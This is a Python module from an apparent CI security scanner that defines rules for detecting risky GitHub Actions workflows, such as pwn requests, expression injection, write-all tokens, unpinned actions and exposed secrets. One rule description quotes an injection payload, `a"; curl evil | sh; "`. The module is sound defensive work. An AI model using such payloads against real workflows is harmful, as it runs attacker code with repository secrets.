"""GitHub Actions rules: pull_request_target with a head checkout, expression injection in
`run:`, write-all permissions, actions not pinned to a commit, secrets given to untrusted
code.

The workflow is read with PyYAML's composer, not its constructor, so every node keeps its
line and the `on:` key stays the string "on" (YAML 1.1 would construct it as True). Only the
fixed workflow paths are walked (jobs -> steps -> keys), never the node graph in general, so
alias tricks cannot make the walk loop or explode.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

import yaml

from app.core.findings import Confidence, Finding, Severity, StageResult
from app.core.sources import SourceFile
from app.scan.rules.common import Rule, RuleParseError

PRT_CHECKOUT = Rule(
    id="airlock.gha.pull-request-target-checkout",
    title="pull_request_target checks out the pull request's code",
    cwe=(829, 94),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description="`pull_request_target` runs with the base repository's secrets and a "
    "write-capable token; checking out the pull request's head and building or running it "
    "hands both to whoever opened the pull request (a 'pwn request').",
    fix="Use `pull_request` for anything that runs the contributor's code. If "
    "`pull_request_target` is needed (labelling, commenting), do not check out the head, "
    "or split the work: build untrusted code under `pull_request` and consume its "
    "artifacts in a separate `workflow_run` job that treats them as data.",
)
EXPRESSION_INJECTION = Rule(
    id="airlock.gha.expression-injection",
    title="Untrusted event data expanded into a script",
    cwe=(78, 94),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description="`${{ }}` expressions are pasted into the script before the shell runs it, "
    'so an issue title, branch name or commit message such as `a"; curl evil | sh; "` '
    "becomes code running with the workflow's token and secrets.",
    fix="Pass the value through an environment variable and quote it in the script: "
    '`env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`.',
)
WRITE_ALL = Rule(
    id="airlock.gha.write-all-permissions",
    title="Workflow token has write-all permissions",
    cwe=(732, 250),
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    description="`permissions: write-all` gives the GITHUB_TOKEN write access to contents, "
    "packages, workflows' outputs and more; any compromised step can push code or publish "
    "releases.",
    fix="Grant the least the job needs: `permissions: read-all` or `contents: read` at the "
    "top, and add single write scopes (e.g. `pull-requests: write`) only on the jobs that "
    "need them.",
)
UNPINNED_ACTION = Rule(
    id="airlock.gha.unpinned-action",
    title="Action not pinned to a commit SHA",
    cwe=(829, 1357),
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    description="A tag or branch (`@v4`, `@main`) can be moved by the action's owner or by "
    "whoever compromises their account; the workflow then runs the new code with its "
    "secrets (as happened with tj-actions/changed-files).",
    fix="Pin to the full 40-character commit SHA and keep the tag as a comment: "
    "`uses: actions/checkout@<sha> # v4.1.1`; let Dependabot/Renovate update it.",
)
SECRETS_TO_UNTRUSTED = Rule(
    id="airlock.gha.secrets-to-untrusted-code",
    title="Secrets exposed to untrusted pull request code",
    cwe=(200, 829),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description="A `pull_request_target` job that checks out the pull request's code also "
    "references repository secrets; the contributor's code (build scripts, tests, package "
    "hooks) runs in the same job and can read them.",
    fix="Never give secrets to a job that runs pull request code. Move the step that needs "
    "the secret into a separate job or a `workflow_run` workflow that does not execute "
    "the contributor's code.",
)
RULES = (PRT_CHECKOUT, EXPRESSION_INJECTION, WRITE_ALL, UNPINNED_ACTION, SECRETS_TO_UNTRUSTED)

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_EVENT_REFERENCE = re.compile(r"github\.(?:event(?:\.[\w*\-]+|\[[^\]]*\])+|head_ref)")
# Fields anyone who can open an issue or pull request chooses freely.
_ATTACKER_CONTROLLED = re.compile(
    r"github\.head_ref"
    r"|\.(?:issue|pull_request|discussion|release)\.(?:title|body)\b"
    r"|\.(?:comment|review|review_comment)\.body\b"
    r"|\.pull_request\.head\.(?:ref|label|repo\.(?:name|full_name|default_branch))\b"
    r"|\.(?:head_commit|commits(?:\.\*|\[\d+\]))\.(?:message|author\.\w+|committer\.\w+)\b"
    r"|\.pages(?:\.\*|\[\d+\])\.page_name\b"
    r"|\.workflow_run\.(?:head_branch|display_title|head_commit\.\w+)"
)
# Event fields that are numbers, ids, hashes or flags: not a way to inject text.
_SAFE_LAST_SEGMENTS = frozenset(
    {"number", "id", "node_id", "sha", "merged", "draft", "run_id", "run_number",
     "run_attempt", "created_at", "updated_at", "closed_at", "merged_at", "additions",
     "deletions", "changed_files", "private", "fork", "size", "action", "state"}
)  # fmt: skip
_HEAD_REF = re.compile(
    r"github\.event\.pull_request\.(?:head\.(?:sha|ref|repo\.full_name)|merge_commit_sha)"
    r"|github\.head_ref|refs/pull/"
)
_SHELL_HEAD_CHECKOUT = re.compile(
    r"gh\s+pr\s+checkout|git\s+(?:fetch|checkout|pull)\b[^\n]*"
    r"(?:github\.event\.pull_request\.head|github\.head_ref|refs/pull/|pull/)"
)
_SAME_REPO_GUARD = re.compile(
    r"head\.repo\.full_name\s*==\s*github\.repository|github\.repository\s*==\s*"
    r"github\.event\.pull_request\.head\.repo\.full_name"
)
_SECRET_REFERENCE = re.compile(r"\$\{\{[^}]*\bsecrets\.(\w+)")
_FULL_SHA = re.compile(r"[0-9a-f]{40}")
_FIRST_PARTY_OWNERS = frozenset({"actions", "github"})


@dataclass(frozen=True)
class Job:
    name: str
    node: yaml.MappingNode
    steps: list[yaml.MappingNode]


def check(file: SourceFile) -> StageResult:
    """Every GitHub Actions rule over one workflow file."""
    root = parse(file.text)
    if root is None:
        return StageResult()
    jobs = _jobs(root)
    untrusted_trigger = "pull_request_target" in _triggers(root)
    findings: list[Finding] = []
    findings.extend(_write_all(file, root, jobs))
    for job in jobs:
        findings.extend(_unpinned_actions(file, job))
        findings.extend(_injections(file, job))
        if untrusted_trigger:
            findings.extend(_pull_request_target(file, root, job))
    return StageResult(findings=findings)


def parse(text: str) -> yaml.MappingNode | None:
    """The workflow's root mapping, or None for an empty file."""
    try:
        node = yaml.compose(text, Loader=yaml.SafeLoader)
    except yaml.MarkedYAMLError as exc:
        mark = exc.problem_mark or exc.context_mark
        line = mark.line + 1 if mark else None
        raise RuleParseError(f"YAML error: {exc.problem or exc.context}", line=line) from exc
    except yaml.YAMLError as exc:
        raise RuleParseError(f"YAML error: {exc}") from exc
    if node is None:
        return None
    if not isinstance(node, yaml.MappingNode):
        raise RuleParseError("a workflow must be a mapping at the top level", line=1)
    return node


# --- node helpers ----------------------------------------------------------------------


def _get(node: yaml.Node | None, key: str) -> yaml.Node | None:
    if not isinstance(node, yaml.MappingNode):
        return None
    for key_node, value_node in node.value:
        if isinstance(key_node, yaml.ScalarNode) and key_node.value == key:
            return value_node if isinstance(value_node, yaml.Node) else None
    return None


def _scalar(node: yaml.Node | None) -> str | None:
    return str(node.value) if isinstance(node, yaml.ScalarNode) else None


def _items(node: yaml.Node | None) -> list[yaml.Node]:
    return list(node.value) if isinstance(node, yaml.SequenceNode) else []


def _line(node: yaml.Node) -> int:
    return int(node.start_mark.line) + 1


def _span(node: yaml.Node) -> range:
    """The 1-based lines a node covers (a block scalar starts at its `|` line)."""
    return range(_line(node), max(_last_line(node), _line(node)) + 1)


def _last_line(node: yaml.Node) -> int:
    # A collection's end mark sits on the next sibling's token, so follow the last child
    # down to a scalar. Bounded, because an alias can make a collection contain itself.
    for _ in range(64):
        if isinstance(node, yaml.MappingNode) and node.value:
            node = node.value[-1][1]
        elif isinstance(node, yaml.SequenceNode) and node.value:
            node = node.value[-1]
        else:
            break
    end = node.end_mark
    return int(end.line) + 1 if end.column > 0 else int(end.line)


def _triggers(root: yaml.MappingNode) -> set[str]:
    # `on` as written; a file whose key was spelled `true:` means the same to YAML 1.1.
    node = _get(root, "on") or _get(root, "true")
    if isinstance(node, yaml.ScalarNode):
        return {str(node.value)}
    if isinstance(node, yaml.SequenceNode):
        return {value for value in map(_scalar, node.value) if value}
    if isinstance(node, yaml.MappingNode):
        return {str(key.value) for key, _ in node.value if isinstance(key, yaml.ScalarNode)}
    return set()


def _jobs(root: yaml.MappingNode) -> list[Job]:
    jobs = _get(root, "jobs")
    if not isinstance(jobs, yaml.MappingNode):
        return []
    found = []
    for key, value in jobs.value:
        if isinstance(value, yaml.MappingNode):
            steps = [step for step in _items(_get(value, "steps"))
                     if isinstance(step, yaml.MappingNode)]  # fmt: skip
            found.append(Job(str(key.value), value, steps))
    return found


# --- write-all permissions -------------------------------------------------------------


def _write_all(file: SourceFile, root: yaml.MappingNode, jobs: list[Job]) -> Iterator[Finding]:
    scopes = [("the workflow", root)] + [(f"job {job.name}", job.node) for job in jobs]
    for where, node in scopes:
        permissions = _get(node, "permissions")
        if permissions is not None and (_scalar(permissions) or "").lower() == "write-all":
            yield WRITE_ALL.finding(
                file,
                _line(permissions),
                message=f"{where.capitalize()} gives the GITHUB_TOKEN write-all permissions.",
            )


# --- unpinned actions ------------------------------------------------------------------


def _unpinned_actions(file: SourceFile, job: Job) -> Iterator[Finding]:
    uses_nodes = [_get(job.node, "uses")] + [_get(step, "uses") for step in job.steps]
    for node in uses_nodes:
        reference = _scalar(node)
        if node is None or not reference:
            continue
        finding = _unpinned(file, node, reference.strip())
        if finding is not None:
            yield finding


def _unpinned(file: SourceFile, node: yaml.Node, reference: str) -> Finding | None:
    if reference.startswith("./"):
        return None  # an action in this repository: pinned by the checkout itself
    if reference.startswith("docker://"):
        if "@sha256:" in reference:
            return None
        return UNPINNED_ACTION.finding(
            file, _line(node), message=f"{reference} is a container image not pinned by digest."
        )
    name, _, ref = reference.partition("@")
    if _FULL_SHA.fullmatch(ref):
        return None
    owner = name.split("/", 1)[0].lower()
    first_party = owner in _FIRST_PARTY_OWNERS
    return UNPINNED_ACTION.finding(
        file,
        _line(node),
        message=f"{reference} is pinned to {'`' + ref + '`' if ref else 'nothing'}, "
        "not a commit SHA.",
        severity=Severity.LOW if first_party else Severity.MEDIUM,
    )


# --- expression injection --------------------------------------------------------------


def _injections(file: SourceFile, job: Job) -> Iterator[Finding]:
    for step in job.steps:
        scripts = [_get(step, "run")]
        if (_scalar(_get(step, "uses")) or "").startswith("actions/github-script@"):
            scripts.append(_get(_get(step, "with"), "script"))
        for script in scripts:
            if isinstance(script, yaml.ScalarNode):
                yield from _script_injections(file, script)


def _script_injections(file: SourceFile, script: yaml.ScalarNode) -> Iterator[Finding]:
    # Search the raw lines the scalar covers, so the line reported is the line holding the
    # expression (a `run: |` block starts on the line before its first command).
    for number in _span(script):
        for match in _EXPRESSION.finditer(file.line(number)):
            risk = _expression_risk(match.group(1))
            if risk is not None:
                reference, confidence = risk
                yield EXPRESSION_INJECTION.finding(
                    file,
                    number,
                    message=f"`{reference}` is expanded into the script text; its value is "
                    "chosen by whoever triggers the workflow.",
                    confidence=confidence,
                )


def _expression_risk(expression: str) -> tuple[str, Confidence] | None:
    """The riskiest event reference inside `${{ ... }}` and how sure we are it is hostile."""
    candidates: list[tuple[str, Confidence]] = []
    for match in _EVENT_REFERENCE.finditer(expression):
        reference = match.group(0)
        last = re.split(r"[.\[]", reference)[-1].strip("]'\"")
        if _ATTACKER_CONTROLLED.search(reference):
            candidates.append((reference, Confidence.HIGH))
        elif last not in _SAFE_LAST_SEGMENTS:
            candidates.append((reference, Confidence.MEDIUM))
    if not candidates:
        return None
    return max(candidates, key=lambda item: item[1].rank)


# --- pull_request_target ---------------------------------------------------------------


def _pull_request_target(file: SourceFile, root: yaml.MappingNode, job: Job) -> Iterator[Finding]:
    if _SAME_REPO_GUARD.search(_scalar(_get(job.node, "if")) or ""):
        return  # the job only runs for branches of this repository, not forks
    checkouts = list(_head_checkouts(file, job))
    if not checkouts:
        return
    for line, how in checkouts:
        yield PRT_CHECKOUT.finding(
            file,
            line,
            message=f"Job {job.name} runs on pull_request_target and {how}.",
        )
    yield from _exposed_secrets(file, root, job)


def _head_checkouts(file: SourceFile, job: Job) -> Iterator[tuple[int, str]]:
    for step in job.steps:
        uses = _scalar(_get(step, "uses")) or ""
        if uses.startswith("actions/checkout@"):
            options = _get(step, "with")
            for key in ("ref", "repository"):
                value = _get(options, key)
                if value is not None and _HEAD_REF.search(_scalar(value) or ""):
                    yield _line(value), f"checks out the pull request head ({key})"
        run = _get(step, "run")
        if isinstance(run, yaml.ScalarNode):
            for number in _span(run):
                if _SHELL_HEAD_CHECKOUT.search(file.line(number)):
                    yield number, "fetches the pull request's code in a script"


def _exposed_secrets(file: SourceFile, root: yaml.MappingNode, job: Job) -> Iterator[Finding]:
    # Workflow-level env reaches every job; the job's own lines cover job env, steps' env,
    # `with:` inputs and scripts.
    regions = [_get(root, "env"), job.node]
    seen: set[str] = set()
    for region in regions:
        if region is None:
            continue
        for number in _span(region):
            for name in _SECRET_REFERENCE.findall(file.line(number)):
                if name in seen:
                    continue
                seen.add(name)
                yield SECRETS_TO_UNTRUSTED.finding(
                    file,
                    number,
                    message=f"secrets.{name} is available to job {job.name}, which runs the "
                    "pull request's code.",
                )
